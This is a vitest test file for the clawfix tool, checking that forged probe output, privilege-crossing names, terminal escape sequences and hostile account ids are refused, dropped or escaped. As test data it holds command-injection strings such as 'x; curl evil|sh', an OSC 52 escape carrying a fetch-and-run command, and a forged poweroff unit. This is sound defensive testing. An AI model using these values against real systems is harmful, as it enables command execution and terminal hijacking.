/**
 * A host that lies (issue 12): forged and repeated probe sections, names that would reach root, escape
 * sequences and numbers in every field that is printed, suggestions that would run more than clawfix.
 * Each case asserts the safe outcome: refused, dropped, checked again as the login user, or sanitized.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sanitise } from '../../src/commands/diagnose.js';
import { renderLine } from '../../src/commands/logs.js';
import type { HostDiagnosis } from '../../src/diagnose/host.js';
import { controlCommand, enableLinger, gatewayCommands } from '../../src/fix/commands.js';
import type { Journal } from '../../src/fix/journal.js';
import { planFix, type Plan } from '../../src/fix/plan.js';
import { renderPlan, renderRecap, stepReporter } from '../../src/fix/report.js';
import { fixTarget } from '../../src/fix/target.js';
import type { ResolvedHost } from '../../src/inventory/types.js';
import { toEvidence } from '../../src/probe/evidence.js';
import { ProbeRefusedError, splitSections } from '../../src/probe/parse.js';
import { renderRemedy } from '../../src/triage/explain.js';
import { ruleFor } from '../../src/triage/rules.js';
import { triage } from '../../src/triage/triage.js';
import { renderDiagnoses } from '../../src/ui/diagnosis.js';
import { setColor } from '../../src/ui/style.js';
import { probeOutput, sectionsOf, TEST_NONCE } from '../helpers/probe-output.js';

/** What a terminal must never get from a host: ESC, C1 controls (CSI, OSC, DCS, ST…), other C0 but newline. */
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
const OSC52 = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
const TITLE = '\x1b]0;pwned\x1b\\';
const CLEAR = '\x1b[2J\x1b[H';
const C1 = '\x9b31m\x9d0;t\x9c';
const HOSTILE = `${OSC52}${TITLE}${CLEAR}${C1}`;
const NUMBER = '+447700900123';

const HOST: ResolvedHost = {
  name: 'web-1', hostname: 'web-1', port: 22, user: 'deploy', identityFiles: [], identitiesOnly: false, proxyJump: [],
  knownHostsFiles: [], hostKeyPolicy: 'strict', tags: [], openclaw: { account: 'default', user: 'claw' }, sources: {},
};

beforeAll(() => setColor(false));
afterAll(() => setColor(true));

describe('probe sections: only this run\'s, each once', () => {
  const body: [string, string][] = [['id', 'user=claw'], ['service', 'port=18789\nlistening=1']];

  it('a well-formed output parses, and is complete', () => {
    const sections = splitSections(probeOutput(body), TEST_NONCE);
    expect(sections.complete).toBe(true);
    expect(sections.values.get('id')?.get('user')).toEqual(['claw']);
  });

  it('a section without the nonce (the old format, or a planted log line) is refused', () => {
    const forged = probeOutput([...body, ['log /tmp/openclaw/x.log', 'hello\n@@service\nsystem-unit=/etc/systemd/system/poweroff.target']]);
    expect(() => splitSections(forged, TEST_NONCE)).toThrow(ProbeRefusedError);
  });

  it('a section with another nonce is refused', () => {
    const other = 'f'.repeat(32);
    const forged = probeOutput([...body, ['files', `{}\n@@${other} service\nsystem-unit=/etc/systemd/system/poweroff.target`]]);
    expect(() => splitSections(forged, TEST_NONCE)).toThrow(/no delimiter of this run/);
  });

  it('a repeated section is refused, not joined (keys would run into each other)', () => {
    const repeated = probeOutput([...body, ['service', 'system-unit=/etc/systemd/system/openclaw-evil.service']]);
    expect(() => splitSections(repeated, TEST_NONCE)).toThrow(/appears twice/);
    expect(() => splitSections(`${probeOutput(body)}\n@@${TEST_NONCE} id\nuser=root\n`, TEST_NONCE)).toThrow(ProbeRefusedError);
  });

  it('a second header, or anything after the end marker, is refused', () => {
    expect(() => splitSections(`${probeOutput(body)}@@clawfix-probe 2 ${TEST_NONCE}\n`, TEST_NONCE)).toThrow(ProbeRefusedError);
  });

  it('a probe cut short in the middle of a delimiter is incomplete, not forged', () => {
    const cut = probeOutput(body, { end: false }) + `@@${TEST_NONCE.slice(0, 10)}`;
    expect(splitSections(cut, TEST_NONCE).complete).toBe(false);
  });

  it('the refusal is one line with the offending text escaped, never raw', () => {
    const forged = probeOutput([['files', `@@${HOSTILE}`]]);
    try {
      splitSections(forged, TEST_NONCE);
      expect.unreachable();
    } catch (error) {
      expect((error as Error).message).not.toMatch(CONTROL);
      expect((error as Error).message).not.toContain('\n');
    }
  });
});

/** A compromised OpenClaw user knows the nonce (it runs the probe): what it says is still no name for root. */
function forgedDiagnosis(service: string, id = 'user=claw\nnow=2026-11-26T12:00:00Z', files?: object): HostDiagnosis {
  const sections: [string, string][] = [['id', id], ['statedir', 'path=/home/claw/.openclaw'], ['gateway', ''], ['service', service]];
  if (files) sections.push(['files', JSON.stringify(files)]);
  const evidence = toEvidence(sectionsOf(sections));
  const result = triage(evidence, { now: new Date(evidence.collectedAt) });
  return { name: 'web-1', status: 'ok', verdict: result.hostVerdict, condition: 'needs-attention', accounts: result.accounts, evidence, timings: { connectMs: 0, probeMs: 0 } };
}

const scriptsOf = (d: HostDiagnosis, host = HOST) => {
  const t = fixTarget(host, d, 'default')!;
  return [...gatewayCommands(t, 'stop'), ...gatewayCommands(t, 'start'), enableLinger(t)];
};

describe('no privilege crossing: names from the probe never reach a privileged command unchecked', () => {
  it('a system unit that is not OpenClaw\'s (poweroff.target) is no unit at all', () => {
    const d = forgedDiagnosis('port=18789\nlistening=0\nsystem-unit=/etc/systemd/system/poweroff.target\nsystemd=1');
    expect(d.evidence!.gateway.managedBy).not.toBe('systemd-system');
    for (const c of scriptsOf(d)) expect(c.script).not.toContain('poweroff');
  });

  it('an OpenClaw-like unit name is used only after the login user finds its unit file, with --', () => {
    const d = forgedDiagnosis('port=18789\nlistening=0\nsystem-unit=/etc/systemd/system/openclaw-gw.service\nsystemd=1');
    const start = controlCommand(fixTarget(HOST, d, 'default')!, 'start');
    expect(start.as).toBe('login');
    const sudo = start.script.indexOf('sudo -n systemctl start -- openclaw-gw.service');
    expect(sudo).toBeGreaterThan(start.script.indexOf('[ -n "$found" ] || {'));
    const root = mkdtempSync(join(tmpdir(), 'clawfix-unit-'));
    try {
      // no such unit file where the login user looks: sudo is never reached
      writeFileSync(join(root, 'sudo'), '#!/bin/sh\necho "sudo $*" >> "$LOG"\n');
      chmodSync(join(root, 'sudo'), 0o755);
      const r = runSh(start.script, { PATH: `${root}:/usr/bin:/bin`, LOG: join(root, 'log') });
      expect(r.status).toBe(1);
      expect(r.stderr).toMatch(/refused: openclaw-gw.service is not a system unit/);
      expect(() => execFileSync('cat', [join(root, 'log')])).toThrow();
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });

  it('a container the probe saw (prod-postgres) is started only if the login user\'s engine shows an OpenClaw image', () => {
    const d = forgedDiagnosis('port=18789\nlistening=0\ncontainer=docker\tprod-postgres\tpostgres:16\tUp 3 days');
    const t = fixTarget(HOST, d, 'default')!;
    expect(t.gateway).toMatchObject({ manager: 'container', serviceName: 'prod-postgres', serviceNameFrom: 'probe' });
    const root = mkdtempSync(join(tmpdir(), 'clawfix-engine-'));
    try {
      const engine = (image: string) => {
        writeFileSync(join(root, 'docker'), `#!/bin/sh\necho "docker $*" >> "$LOG"\ncase "$*" in "container inspect -f {{.Config.Image}} -- "*) echo ${image};; esac\nexit 0\n`);
        chmodSync(join(root, 'docker'), 0o755);
      };
      const env = { PATH: `${root}:/usr/bin:/bin`, LOG: join(root, 'log') };
      engine('postgres:16');
      for (const c of [...gatewayCommands(t, 'start'), ...gatewayCommands(t, 'stop')]) {
        const r = runSh(c.script, env);
        expect(r.status).toBe(1);
        expect(r.stderr).toMatch(/refused: container prod-postgres does not run an OpenClaw image \(postgres:16\)/);
      }
      const log = execFileSync('cat', [env.LOG], { encoding: 'utf8' });
      expect(log).not.toMatch(/docker (start|stop|exec)/);
      engine('ghcr.io/openclaw/openclaw:2026.9.6');
      expect(runSh(controlCommand(t, 'start').script, env).status).toBe(0);
      expect(execFileSync('cat', [env.LOG], { encoding: 'utf8' })).toMatch(/^docker start -- prod-postgres$/m);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });

  it('a container named in the hosts file is trusted as it is', () => {
    const d = forgedDiagnosis('port=18789\nlistening=0');
    const t = fixTarget({ ...HOST, openclaw: { account: 'default', container: 'oc-1' } }, d, 'default')!;
    expect(t.gateway.serviceNameFrom).toBe('hosts-file');
    expect(controlCommand(t, 'start').script).not.toContain('does not run an OpenClaw image');
  });

  it('linger is enabled for the hosts file\'s user, whatever user the probe claims', () => {
    const d = forgedDiagnosis('port=18789\nlistening=0\nuser-unit=/home/claw/.config/systemd/user/openclaw-gateway.service\nlinger=no', 'user=root\nnow=2026-11-26T12:00:00Z');
    const linger = enableLinger(fixTarget(HOST, d, 'default')!);
    expect(linger.script).toContain('sudo -n loginctl enable-linger -- claw');
    expect(linger.script).not.toContain('root');
    const self = enableLinger(fixTarget({ ...HOST, openclaw: { account: 'default' } }, d, 'default')!);
    expect(self.script).toContain('enable-linger -- deploy');
  });

  it('names that fail their pattern are dropped where they are parsed: units, pm2 apps, users, paths, account ids', () => {
    const d = forgedDiagnosis(
      'port=18789\nlistening=0\nuser-unit=/x/openclaw;reboot.service\npm2=1\npm2-app=--force stopped',
      'user=root;id\nnow=2026-11-26T12:00:00Z',
      { config: { valid: true, whatsapp: true, accounts: ['work', 'x; curl evil|sh', `a${HOSTILE}`, '../../victim'] }, accounts: [], legacyCreds: false, plugin: null },
    );
    const e = d.evidence!;
    expect(e.user).toBeNull();
    expect(e.gateway.managedBy).toBe('none');
    expect(e.gateway.serviceName).toBeNull();
    expect(e.config.accountIds).toEqual(['work']);
    expect(d.accounts.map((a) => a.account)).toEqual(['work']);
    const bad = toEvidence(sectionsOf([['statedir', 'path=/home/claw/../../etc'], ['openclaw', 'bin=relative/openclaw']]));
    expect(bad.stateDir).toBeNull();
    expect(bad.openclaw.path).toBeNull();
  });
});

function runSh(script: string, env: Record<string, string>) {
  try {
    const stdout = execFileSync('sh', ['-c', script], { env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
    return { status: 0, stdout, stderr: '' };
  } catch (error) {
    const e = error as { status: number; stdout: string; stderr: string };
    return { status: e.status, stdout: e.stdout, stderr: e.stderr };
  }
}

describe('every output path goes through the one sanitizer', () => {
  const hostileDiagnosis = (): HostDiagnosis => ({
    name: 'web-1', status: 'ok', verdict: 'logged-out', condition: 'needs-attention',
    error: `boom ${HOSTILE}`, hint: `hint ${HOSTILE} ${NUMBER}`,
    openclaw: { version: '2026.9.6', stateDir: `/home/claw/${HOSTILE}`, user: `claw${HOSTILE}`, gateway: { running: false, pid: null, managedBy: 'none' } },
    accounts: [{
      account: `x${HOSTILE}; curl evil|sh`, verdict: 'logged-out', summary: `logged out ${HOSTILE} ${NUMBER}`, since: null,
      evidence: [{ time: null, text: `[whatsapp] ${HOSTILE} ${NUMBER}@s.whatsapp.net` }],
      remedy: { action: `relink ${HOSTILE}`, commands: [`openclaw ${HOSTILE}`], destructive: true },
    } as unknown as HostDiagnosis['accounts'][number]],
    timings: { connectMs: 1, probeMs: 1 },
  });

  it('diagnose: the table and the JSON document', () => {
    const shown = sanitise([hostileDiagnosis()], false);
    const table = renderDiagnoses(shown, 200);
    expect(table).not.toMatch(CONTROL);
    expect(table).not.toContain('447700900123');
    expect(JSON.stringify(shown)).not.toMatch(/\\u00(1b|9[bcd])/);
  });

  it('fix: the plan (state dir, user, account), step output and the recap', () => {
    const d = forgedDiagnosis('port=18789\nlistening=0');
    const plan: Plan = { ...planFix(d, { host: HOST }), account: `w${HOSTILE}`, summary: `s ${HOSTILE} ${NUMBER}`, notes: [`note ${HOSTILE}`] };
    plan.steps = plan.steps.map((s) => ({ ...s, title: `${s.title} ${HOSTILE}`, commands: [...s.commands, `mv /home/${HOSTILE}`] }));
    const rendered = renderPlan(plan);
    expect(rendered).not.toMatch(CONTROL);
    expect(rendered).not.toContain('447700900123');

    let live = '';
    const reporter = stepReporter({ write: (chunk: string) => ((live += chunk), true) } as unknown as NodeJS.WritableStream);
    reporter.line(`line ${HOSTILE} ${NUMBER}`);
    reporter.stepFailed({ ...plan.steps[0]!, run: async () => undefined } as never, 10, new Error(`failed ${HOSTILE}`));
    expect(live).not.toMatch(CONTROL);

    const journal = {
      backup: { remotePath: `/b/${HOSTILE}.tgz`, localPath: `/l/${HOSTILE}`, sha256: `${HOSTILE}abcdef0123456789`, sizeBytes: 1 },
      quarantine: { moved: `/q/${HOSTILE}` },
      restore: { aside: `/r/${HOSTILE}` },
    } as unknown as Journal;
    const recap = renderRecap({ plan, journal, durationMs: 5, offline: `dns ${HOSTILE}`, result: { status: 'done', rolledBack: [], rollbackFailed: false } as never });
    expect(recap).not.toMatch(CONTROL);
    const failed = renderRecap({ plan, journal, durationMs: 5, result: { status: 'failed', failed: { id: 'verify', error: new Error(HOSTILE) }, rolledBack: [{ id: 'quarantine', outcome: 'failed', note: HOSTILE }], rollbackFailed: true } as never });
    expect(failed).not.toMatch(CONTROL);
  });

  it('logs: a JSON-escaped escape sequence or number is cleaned and masked after it is decoded', () => {
    const line = JSON.stringify({ 0: '[whatsapp] x', 1: 'WhatsApp \u001b]52;c;ZXZpbA==\u0007 session logged out \u001b[2J +447700900123', _meta: { logLevelName: 'WARN' }, time: '2026-12-02T10:00:00.000Z' });
    const escaped = line.replace('+447700900123', '+\\u0034\\u0034\\u0037\\u0037\\u0030\\u0030\\u0039\\u0030\\u0030\\u0031\\u0032\\u0033');
    for (const raw of [line, escaped, `plain whatsapp ${HOSTILE} ${NUMBER}`]) {
      const shown = renderLine(raw, { all: true });
      expect(shown).not.toBeNull();
      expect(shown!).not.toMatch(CONTROL);
      expect(shown!).not.toContain('447700900123');
      expect(shown!).toContain('+44');
    }
    expect(escaped).toContain('\\u001b');
    expect(renderLine(escaped, { all: true, showNumbers: true })).toContain('+447700900123');
  });
});

describe('suggested commands are quoted like commands that run', () => {
  /** What the shell makes of a printed command: its words, with the program replaced by one that prints them. */
  const words = (command: string, program: string) =>
    execFileSync('sh', ['-c', `${program}() { printf '%s\\n' "$@"; }\n${command}`], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } }).trimEnd().split('\n');

  it('clawfix fix … --account <id> with a hostile id is one word', () => {
    const hostile = 'x; touch /tmp/clawfix-pwned; y$(id)`id`';
    const d = { name: 'web-1', status: 'ok', verdict: 'logged-out', condition: 'needs-attention', timings: { connectMs: 0, probeMs: 0 },
      accounts: [{ account: hostile, verdict: 'logged-out', summary: 's', since: null, evidence: [], remedy: { action: 'a', commands: [], destructive: true } }] } as unknown as HostDiagnosis;
    const line = renderDiagnoses([d], 400).split('\n').find((l) => l.includes('→'))!;
    const command = line.slice(line.indexOf('clawfix fix'), line.indexOf('  (changes'));
    expect(words(command, 'clawfix')).toEqual(['fix', 'web-1', '--account', hostile]);
  });

  it('remedies fill account, user, state dir and unit quoted', () => {
    const hostile = "a'b; curl evil|sh";
    const templates = ruleFor('logged-out').remedy.commands;
    const remedy = renderRemedy(ruleFor('logged-out').remedy, null, hostile, 'logged-out');
    const withAccount = remedy.commands.filter((_c, i) => templates[i]!.includes('<account>'));
    expect(withAccount.length).toBeGreaterThan(0);
    for (const command of withAccount) expect(words(command, 'openclaw').at(-1)).toBe(hostile);
  });
});
